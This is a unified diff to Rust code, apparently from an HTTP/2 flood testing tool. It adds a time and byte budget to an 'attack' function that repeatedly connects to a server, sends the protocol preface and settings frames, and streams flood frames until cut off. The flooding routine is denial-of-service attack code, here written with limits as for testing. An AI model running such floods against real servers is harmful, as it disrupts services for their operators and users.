@@ -62,30 +62,54 @@ impl Told {
     }
 }
 
+/// How much an attacker may do.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub struct Budget {
+    /// For how long.
+    pub span: Duration,
+    /// How many octets, to the next batch.
+    pub octets: usize,
+}
+
+impl Budget {
+    /// So long, and any number of octets.
+    #[must_use]
+    pub const fn of(span: Duration) -> Self {
+        Self { span, octets: usize::MAX }
+    }
+
+    /// So many octets at most.
+    #[must_use]
+    pub const fn and_octets(self, octets: usize) -> Self {
+        Self { octets, ..self }
+    }
+}
+
 /// Sends a flood to a server for so long, on one connection after the other.
 ///
 /// # Panics
 ///
 /// When the server does not accept.
 #[must_use]
-pub fn attack(address: SocketAddr, flood: &Flood, span: Duration) -> Told {
-    let until = Instant::now() + span;
+pub fn attack(address: SocketAddr, flood: &Flood, budget: Budget) -> Told {
+    let until = Instant::now() + budget.span;
     let mut told = Told::default();
-    while Instant::now() < until {
+    while Instant::now() < until && told.octets < budget.octets {
         let mut socket = Socket::connect(address).expect("the server accepts");
         // A connection that is cut off already has said so.
         let _ = socket.write(&[PREFACE, &settings(&[]), &settings_ack(), &(flood.start)()].concat());
-        send(&mut socket, flood.piece, flood.reads, until, &mut told);
+        let octets = budget.octets - told.octets;
+        send(&mut socket, flood.piece, flood.reads, (until, octets), &mut told);
     }
     told
 }
 
-/// Sends pieces until the peer says GOAWAY or ends the connection, or the time has come.
+/// Sends pieces until the peer says GOAWAY or ends the connection, the time has come or so many octets are sent.
 pub fn send(
     socket: &mut Socket,
     piece: impl Fn(u32) -> Vec<u8>,
     reads: bool,
-    until: Instant,
+    (until, most): (Instant, usize),
     told: &mut Told,
 ) {
     told.connections += 1;
@@ -95,7 +119,7 @@ pub fn send(
         let reader = reads.then(|| scope.spawn(|| read(socket, &cut)));
         let mut octets = 0;
         let mut id = FIRST_ID;
-        while !cut.load(Ordering::Relaxed) && Instant::now() < until && id < 1 << 30 {
+        while !cut.load(Ordering::Relaxed) && Instant::now() < until && octets < most && id < 1 << 30 {
             let mut batch = Vec::with_capacity(2 * BATCH);
             while batch.len() < BATCH {
                 batch.extend(piece(id));
